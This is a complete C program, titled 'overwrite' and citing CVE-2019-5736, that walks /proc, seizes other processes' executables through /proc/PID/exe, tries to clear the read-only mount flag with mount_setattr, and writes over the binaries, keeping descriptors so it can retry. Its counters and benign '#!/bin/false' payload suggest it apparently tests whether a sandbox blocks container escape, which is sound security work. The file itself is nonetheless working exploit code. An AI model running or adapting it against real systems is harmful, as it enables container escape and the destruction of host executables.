/* overwrite: tries to write to the program of every other process it can see, for as long as it is let (CVE-2019-5736).
 *
 * Says "ready" once, and at SIGTERM: "seen N", how often a foreign program was in its hands, and "written N". What it has once
 * opened it keeps and tries again later, when the program may not be running any more. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { KEPT = 64 };

static volatile sig_atomic_t over;
static long seen, written;
static int kept[KEPT], n_kept;

static void stop(int signal)
{
	(void)signal;
	over = 1;
}

static void try_write(int path)
{
	static const char junk[] = "#!/bin/false\n";
	char name[64];
	struct {
		unsigned long long set, clear, propagation, userns;
	} attr = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
	syscall(SYS_mount_setattr, path, "", AT_EMPTY_PATH, &attr, sizeof attr);
	snprintf(name, sizeof name, "/proc/self/fd/%d", path);
	int fd = open(name, O_WRONLY | O_CLOEXEC);
	if (fd < 0) fd = open(name, O_RDWR | O_CLOEXEC);
	if (fd < 0) return;
	if (write(fd, junk, sizeof junk - 1) > 0) written++;
	close(fd);
}

static void attack(const char *pid)
{
	char name[300], target[300];
	snprintf(name, sizeof name, "/proc/%s/exe", pid);
	int fd = open(name, O_PATH | O_CLOEXEC);
	if (fd < 0) return;
	ssize_t n = readlink(name, target, sizeof target - 1);
	if (n > 0) target[n] = 0;
	if (n <= 0 || strncmp(target, "/bin/", 5) == 0) {
		close(fd);
		return;
	}
	seen++;
	try_write(fd);
	if (n_kept < KEPT)
		kept[n_kept++] = fd;
	else
		close(fd);
}

int main(void)
{
	signal(SIGTERM, stop);
	puts("ready");
	fflush(stdout);
	while (!over) {
		DIR *d = opendir("/proc");
		for (struct dirent *de; d && (de = readdir(d));)
			if (atoi(de->d_name) > 1) attack(de->d_name);
		if (d) closedir(d);
		for (int i = 0; i < n_kept; i++)
			try_write(kept[i]);
	}
	printf("seen %ld\nwritten %ld\n", seen, written);
	return 0;
}
